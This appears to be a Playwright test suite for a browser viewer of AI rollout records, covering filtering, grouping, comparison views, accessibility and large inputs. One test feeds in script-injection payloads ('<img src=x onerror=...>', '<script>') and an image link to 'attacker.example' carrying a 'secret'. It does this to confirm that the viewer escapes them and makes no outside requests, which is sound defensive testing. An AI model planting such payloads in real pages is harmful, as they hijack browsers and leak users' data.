"""The page of `openenv episodes view`: lists, one rollout, two side by side, and texts that would like to be more."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from openenv.rollouts.records import PrefixBreak, Rollout, RolloutOutcome, StepRecord

from ..cli.process import running
from ..rollouts.folders import make_rollout, make_turn, write_rollouts
from .conftest import Enter
from .visitor import Visitor

PNG = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg=="
)
SCRIPTED = "<img src=x onerror=window.attacked=1><script>window.attacked=1</script>"
SIZES = {1280: 900, 375: 720}


def rollout(number: int) -> Rollout:
    """A rollout with a picture, an invalid action, a prefix break, and tokens in its last turn."""
    shelf = [{"type": "text", "text": "This is the shelf:"}, {"type": "image_url", "image_url": {"url": PNG}}]
    invalid = StepRecord(None, "call-1", "buy", error="the shop has no 'grean tea'")
    ids = {"completion_ids": [3, 4, 5], "logprobs": [-0.01, -0.6, -4.0], "tokens": "sampled"}
    turns = [
        make_turn(prompt=[{"role": "system", "content": "You buy things."}, {"role": "user", "content": shelf}]),
        make_turn(1, reward=None, steps=[invalid]),
        make_turn(2, text=f"Tea number {number}", prefix_break=PrefixBreak("compaction", 12, 40, 30), **ids),
    ]
    failed = number % 8 == 7
    return make_rollout(
        number,
        turns=turns,
        outcome=RolloutOutcome.REFUSED if failed else RolloutOutcome.TERMINATED,
        rubric={"speed": 0.5},
        invalid_actions=1,
    )


@contextmanager
def viewing(folder: Path) -> Iterator[str]:
    """The address of a viewer of a folder."""
    with running("episodes", "view", str(folder)) as server:
        yield server.url


@pytest.fixture(scope="module")
def runs(browser: object, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("runs")
    write_rollouts(folder / "monday" / "rollouts-0.jsonl", *(rollout(number) for number in range(24)))
    write_rollouts(folder / "tuesday" / "rollouts-0.jsonl", make_rollout(2), make_rollout(3))
    with viewing(folder) as url:
        yield url


def seen(page: Page) -> list[str]:
    """The rollouts in sight."""
    return page.locator(".line").all_inner_texts()


def settled(page: Page, count: int) -> None:
    """Waits until the list has this number of rows."""
    expect(page.get_by_role("grid")).to_have_attribute("aria-rowcount", str(count + 1))


def open_first(visitor: Visitor, text: str) -> Page:
    """Opens the first rollout of a group of monday that has the text in its row."""
    page = visitor.page
    page.locator(".line", has_text=text).first.click()
    page.locator("#turn-1").wait_for()
    return page


def test_rollouts_are_filtered_sorted_and_the_address_keeps_it(runs: str, enter: Enter) -> None:
    page = enter(runs, "").page
    settled(page, 26)
    page.get_by_role("button", name="refused").click()
    settled(page, 3)
    page.get_by_label("Run", exact=True).select_option("monday")
    page.get_by_role("button", name="refused").click()
    settled(page, 24)
    page.get_by_label("Return from").fill("10")
    settled(page, 12)
    page.get_by_label("Task").fill("train/3")
    settled(page, 3)
    page.get_by_role("button", name="Return").click()
    expect(page.get_by_role("columnheader", name="Return")).to_have_attribute("aria-sort", "descending")
    expect(page.locator(".line").first).to_contain_text("3-2")
    page.reload()
    settled(page, 3)
    expect(page.locator(".line").first).to_contain_text("3-2")
    page.locator("#clear").click()
    settled(page, 26)
    page.go_back()
    settled(page, 3)


def test_groups_and_runs_lead_to_their_rollouts(runs: str, enter: Enter) -> None:
    page = enter(runs, "").page
    page.get_by_role("button", name="Runs", exact=True).click()
    expect(page.locator(".runs li").first).to_contain_text("24 rollouts")
    page.get_by_role("button", name="monday").click()
    settled(page, 6)
    page.get_by_role("button", name="Spread").click()
    page.locator(".line", has_text="train/1").first.click()
    settled(page, 4)
    assert all("train/1" in row for row in seen(page))
    page.get_by_role("button", name=re.compile("group 1")).click()
    settled(page, 24)


def test_a_rollout_is_a_conversation(runs: str, enter: Enter) -> None:
    visitor = enter(f"{runs}", "run=monday&sort=started&order=up")
    page = open_first(visitor, "0-1")
    first, second, third = (page.locator(f"#turn-{number}") for number in (1, 2, 3))
    expect(first.locator(".message.system")).to_contain_text("You buy things.")
    expect(first.locator(".message.user img")).to_have_js_property("naturalWidth", 1)
    expect(first.locator(".call")).to_contain_text("buy")
    expect(first.locator(".step")).to_contain_text("speed 0.25")
    expect(first.get_by_text("It is cheap.")).to_be_hidden()
    first.get_by_text("Reasoning").click()
    expect(first.get_by_text("It is cheap.")).to_be_visible()
    expect(second.locator(".message.tool")).to_contain_text("bought 1 so far")
    expect(second.locator(".step.bad")).to_contain_text("the shop has no 'grean tea'")
    expect(third.locator(".break")).to_contain_text("compaction")
    expect(third.locator(".break")).to_contain_text("differs at 12")
    third.get_by_role("button", name="Tokens").click()
    tokens = third.locator(".tokens .ids .token")
    expect(tokens).to_have_class(["token p0", "token p2", "token p4"])
    third.locator(".tokens .ids").press("ArrowRight")
    expect(third.locator("p.chosen")).to_contain_text("id 3, logprob -0.010, probability 0.990")
    page.keyboard.press("Escape")
    settled(page, 24)


def test_two_rollouts_of_a_group_are_side_by_side(runs: str, enter: Enter) -> None:
    visitor = enter(runs, "run=monday&group=1")
    page = open_first(visitor, "1-2")
    members = page.locator(".members button")
    assert members.all_inner_texts() == ["0: 4", "1: 5", "2: 6", "3: failed"]
    page.locator("#beside").select_option(label="0: 4")
    expect(page.locator("h2")).to_have_text(["train/1 rollout 1-2", "train/1 rollout 1-0"])
    left, right = page.get_by_role("region", name=re.compile("Turn 3 of")).all()
    expect(left).to_contain_text("Tea number 6")
    expect(right).to_contain_text("Tea number 4")
    one, other = (each.bounding_box() or {} for each in (left, right))
    assert one["y"] == other["y"]
    assert one["x"] < other["x"]
    members.nth(3).click()
    expect(page.locator("h2")).to_have_text(["train/1 rollout 1-3", "train/1 rollout 1-0"])
    expect(page.locator(".head .box.bad")).to_contain_text("ModelFailed")


def test_groups_of_other_runs_with_the_same_name_are_none_of_it(enter: Enter, tmp_path: Path) -> None:
    for run in range(30):
        write_rollouts(tmp_path / f"{run:02}" / "rollouts-0.jsonl", *(rollout(number) for number in range(4)))
    with viewing(tmp_path) as url:
        page = enter(url, "run=29&open=29/rollouts-0.jsonl:0").page
        expect(page.locator(".members button")).to_have_text(["0: 0", "1: 1", "2: 2", "3: 3"])


def test_a_text_is_searched_and_its_turn_shown(runs: str, enter: Enter) -> None:
    page = enter(runs, "").page
    page.locator("h1").click()
    page.keyboard.press("/")
    page.keyboard.type("TEA NUMBER 17")
    settled(page, 1)
    expect(page.get_by_role("heading", name="Searched all 26, found 1")).to_be_visible()
    expect(page.locator("mark")).to_have_text("Tea number 17")
    page.locator(".line").click()
    expect(page.locator("#turn-3")).to_be_in_viewport()
    assert "turn=3" in page.url


def test_lists_are_gone_through_with_the_keyboard_alone(runs: str, enter: Enter) -> None:
    page = enter(runs, "run=monday&sort=reward").page
    settled(page, 24)
    page.get_by_role("grid").focus()
    page.keyboard.press("End")
    page.keyboard.press("ArrowUp")
    expect(page.get_by_role("row", selected=True)).to_contain_text("refused")
    page.keyboard.press("Home")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    expect(page.locator("h2")).to_have_text("train/5 rollout 5-1")
    page.keyboard.press("t")
    assert page.evaluate("document.documentElement.dataset.theme") in {"light", "dark"}


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", SIZES)
def test_it_fits_and_has_no_serious_fault(runs: str, enter: Enter, width: int, scheme: str) -> None:
    visitor = enter(runs, "", viewport={"width": width, "height": SIZES[width]}, color_scheme=scheme)
    page = visitor.page
    faults = []

    def look(name: str) -> None:
        visitor.look(f"rollouts-{name}-{width}-{scheme}")
        faults.extend(f"{name}: {fault}" for fault in visitor.check_accessibility())
        wide = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
        assert wide[0] <= wide[1], f"{name} scrolls sideways: {wide}"

    settled(page, 26)
    look("list")
    page.get_by_role("button", name="Groups", exact=True).click()
    page.locator(".line").first.wait_for()
    look("groups")
    page.get_by_role("button", name="Runs", exact=True).click()
    page.locator(".runs li").first.wait_for()
    look("runs")
    visitor.open(runs, "run=monday&group=1&text=shelf")
    open_first(visitor, "shelf")
    page.locator("#turn-3").get_by_role("button", name="Tokens").click()
    page.locator(".token").first.wait_for()
    look("one")
    page.locator("#beside").select_option(index=1)
    expect(page.locator("h2")).to_have_count(2)
    look("two")
    assert faults == []


def test_texts_of_a_model_are_text(enter: Enter, tmp_path: Path) -> None:
    elsewhere = {"type": "image_url", "image_url": {"url": "https://attacker.example/told?secret"}}
    drawn = {"type": "image_url", "image_url": {"url": "data:image/svg+xml;base64,PHN2Zy8+"}}
    call = {"id": SCRIPTED, "function": {"name": SCRIPTED, "arguments": SCRIPTED}}
    said = {
        "role": SCRIPTED,
        "content": [SCRIPTED, elsewhere, drawn],
        "reasoning_content": SCRIPTED,
        "tool_calls": [call],
    }
    step = StepRecord(
        {"x": SCRIPTED}, "c", SCRIPTED, {"html": SCRIPTED, "shot": "data:text/html;base64,PGI+"}, 1.0, {SCRIPTED: 1}
    )
    turn = make_turn(prompt=[{"role": "user", "content": SCRIPTED}], completion=said, steps=[step])
    write_rollouts(
        tmp_path / "rollouts-a.jsonl",
        make_rollout(0, turns=[turn], rollout_id=SCRIPTED, group=SCRIPTED, environment=SCRIPTED, model=SCRIPTED),
    )
    with viewing(tmp_path) as url:
        page = enter(url, "text=img").page
        requests: list[str] = []
        page.on("request", lambda request: requests.append(request.url))
        page.locator(".line").first.click()
        page.locator("#turn-1").wait_for()
        for fold in page.locator("details").all():
            fold.evaluate("fold => fold.open = true")
        expect(page.locator("#turn-1")).to_contain_text("picture that is not shown: https://attacker.example")
        expect(page.locator("h2")).to_contain_text("<img src=x")
        assert page.locator("main img, main script, main iframe").count() == 0
        assert page.evaluate("window.attacked ?? null") is None
        assert all(request.startswith(url) for request in requests)


def test_a_rollout_of_five_megabytes_is_shown_in_parts(enter: Enter, tmp_path: Path) -> None:
    write_rollouts(
        tmp_path / "rollouts-a.jsonl", make_rollout(turns=[make_turn(text="All work and no play. " * 250_000)])
    )
    with viewing(tmp_path) as url:
        page = enter(url, "").page
        page.locator(".line").first.click()
        more = page.get_by_role("button", name="more characters")
        expect(more).to_have_text("100,000 of 5,496,000 more characters")
        more.click()
        expect(more).to_have_text("100,000 of 5,396,000 more characters")


def test_an_empty_folder_fills_and_foreign_files_are_named(enter: Enter, tmp_path: Path) -> None:
    with viewing(tmp_path) as url:
        page = enter(url, "").page
        expect(page.locator(".empty")).to_contain_text("openenv rollout TARGET -o DIR")
        (tmp_path / "rollouts-steps.jsonl").write_text('{"step": 0}\n')
        write_rollouts(tmp_path / "rollouts-a.jsonl", make_rollout(0), make_rollout(1))
        settled(page, 2)
        page.get_by_text("are no rollouts").click()
        expect(page.locator(".box.warn li")).to_contain_text("rollouts-steps.jsonl")
        write_rollouts(tmp_path / "rollouts-a.jsonl", make_rollout(2))
        settled(page, 3)


def test_a_viewer_that_is_away_is_named_and_comes_back(enter: Enter, tmp_path: Path) -> None:
    write_rollouts(tmp_path / "rollouts-a.jsonl", make_rollout(0))
    with viewing(tmp_path) as url:
        page = enter(url, "", refusals=True).page
        settled(page, 1)
        page.locator(".line").first.wait_for()
    expect(page.locator(".box.bad")).to_contain_text("does not answer: is the server up?")
    with running("episodes", "view", str(tmp_path), "--port", url.rpartition(":")[2]):
        expect(page.locator(".box.bad")).to_have_count(0)


def test_ten_thousand_rollouts_are_scrolled_through(enter: Enter, tmp_path: Path) -> None:
    write_rollouts(tmp_path / "rollouts-a.jsonl", *(make_rollout(number, turns=20) for number in range(10_000)))
    with viewing(tmp_path) as url:
        page = enter(url, "").page
        settled(page, 10_000)
        page.get_by_role("grid").focus()
        page.keyboard.press("End")
        expect(page.get_by_role("row", selected=True)).to_contain_text("0-0")
        assert page.evaluate("document.querySelectorAll('*').length") < 2000
